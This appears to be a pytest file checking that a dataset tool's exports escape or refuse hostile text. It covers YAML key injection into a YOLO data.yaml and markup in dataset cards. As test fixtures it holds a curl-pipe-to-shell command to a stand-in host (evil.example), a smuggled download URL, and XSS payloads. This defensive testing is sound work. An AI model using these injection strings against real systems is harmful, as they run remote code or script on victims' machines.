"""Dataset text in the files the exports write (issue 38, items 1 and 7): a manifest's build id
holding a newline and ``download: ...`` became a top-level key of the YOLO ``data.yaml`` (which
ultralytics runs when the val images are missing), and markup in the build id, the scene, the
class names, the versions or a sample's metadata went raw into the dataset card's tables and
headings.

Now every reader of a manifest checks the fields that are written out as text (``build_id`` in
the ``--build-id`` charset, ``scene`` a family's name, text without line breaks, ...) and refuses
another in one line (exit 2) naming the manifest and the field; and the writers pass the text
that is allowed through a serialiser or an escaper: the card's Markdown shows it as itself (no
HTML, link or table cell from the data, read back by markdown-it), its front matter and
``data.yaml`` hold exactly datagen's keys, ``croissant.json`` is strict JSON with a BibTeX
citation whose braces balance."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
import yaml

from adversarial.hostile_exports import (
    DATA_YAML,
    FRONT_MATTER,
    cli,
    forged,
    front_matter,
    grasp_source,
    link_targets,
    navigation_source,
    rendered,
)
from adversarial.refusals import refused
from datagen.dataset.loader import DatasetError, load

pytestmark = [pytest.mark.adversarial, pytest.mark.sim]
INJECTED = "x\ndownload: \"bash -c 'curl evil.example | sh'\"\n#"
# what a user may put in a class name, a version or a sample's metadata, all of it valid text
MARKUP = "<img src=x onerror=alert(1)> | [a](javascript:alert(1)) `c` **b** ~~s~~ &amp; \\"


@pytest.fixture(scope="module")
def grasp(tmp_path_factory) -> Path:
    return grasp_source(tmp_path_factory)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("build_id", INJECTED),
        ("build_id", "a b"),
        ("build_id", "ok\n"),  # a regex's $ matches before a final newline
        ("scene", "grasp_tabletop\n<script>x</script>"),
        ("seed", "1\ndownload: x"),
        ("classes", ["box", "mug\n# heading"]),
        ("created_utc", "2025\u2028download: x"),  # a line separator ends a YAML line too
        ("versions", {"datagen": "1.0\r\n<b>x</b>"}),
    ],
)
def test_a_manifest_field_that_would_write_markup_is_refused_by_every_reader(
    grasp, tmp_path, field, value
):
    root = forged(grasp, tmp_path / "ds", manifest=lambda m: m.update({field: value}))

    for argv in (("export", root, "--to", "yolo"), ("verify", root), ("inspect", root)):
        refused(cli(*argv), f"{root}/manifest.json", repr(field))
    with pytest.raises(DatasetError, match=re.escape(repr(field))):
        load(root)
    assert not (root / "yolo").exists() and not (root / "README.md").exists()


def check_card(path: Path, markup: list[str], own_links: set[str]) -> None:
    """The card's front matter holds datagen's keys only; its body no HTML and no link but
    ``own_links``, and each of ``markup`` shows as itself (on one line)."""
    header, body = front_matter(path.read_text())
    assert set(header) <= FRONT_MATTER and {"license", "tags"} <= set(header), header
    tokens, shown = rendered(body)
    assert not [t.content for t in tokens if t.type.startswith("html")], path
    links = link_targets(tokens)
    assert links <= own_links, links
    for text in markup:
        assert " ".join(text.split()) in " ".join(shown.split()), (text, path)


def test_markup_in_the_data_shows_as_text_in_the_cards(grasp, tmp_path):
    """A class of a sample, the manifest's class names, versions and date, and its config."""

    def meta(m):
        m["objects"][0]["class"] = MARKUP  # the card's statistics count objects per class

    def manifest(m):
        m["classes"] = [*m["classes"], MARKUP]
        m["versions"] |= {"datagen": f"0.1.0 {MARKUP}", "a </td><td>": MARKUP}
        m["created_utc"] = MARKUP
        m["config"]["note"] = "```\n<script>alert(1)</script>\n```"  # a fence in the config

    root = forged(grasp, tmp_path / "ds", meta=meta, manifest=manifest)
    code, _, err = cli("export", root, "--to", "hdf5,bop")
    assert code == 0, err

    check_card(root / "README.md", [MARKUP, f"0.1.0 {MARKUP}", "a </td><td>"], {"bop/README.md"})
    check_card(root / "bop" / "README.md", [f"0.1.0 {MARKUP}"], {"../README.md"})
    for croissant in (root / "croissant.json", root / "bop" / "croissant.json"):
        doc = json.loads(croissant.read_text(), parse_constant=_no_constant)
        cite = doc["citeAs"]
        assert cite.count("{") - cite.count("\\{") == cite.count("}") - cite.count("\\}"), cite
        assert doc["name"] != "semantic_png"  # the dataset's name, not its last record set's


def test_a_sample_family_and_class_names_stay_text_in_a_navigation_card(tmp_path_factory, tmp_path):
    source = navigation_source(tmp_path_factory)
    root = forged(source, tmp_path / "ds", meta=lambda m: m.update(family=MARKUP))
    code, _, err = cli("export", root, "--to", "hdf5")
    assert code == 0, err
    check_card(root / "README.md", [MARKUP], set())


def test_the_yolo_data_yaml_holds_only_its_keys(grasp, tmp_path):
    """Class names are the sample's: YAML syntax in one is a name, never a key."""
    evil = "box\ndownload: https://evil.example/x.zip\n# "

    def meta(m):
        m["classes"][m["classes"].index("box")] = evil
        for view in m["views"].values():
            for obj in view["objects"]:
                obj["class"] = evil if obj["class"] == "box" else obj["class"]

    root = forged(grasp, tmp_path / "ds", meta=meta)
    code, _, err = cli("export", root, "--to", "yolo")
    assert code == 0, err
    for task in ("detect", "segment"):
        text = (root / "yolo" / task / "data.yaml").read_text()
        data = yaml.safe_load(text)
        assert set(data) == DATA_YAML and evil in data["names"].values(), text


def _no_constant(name: str):
    raise ValueError(f"{name} in JSON")
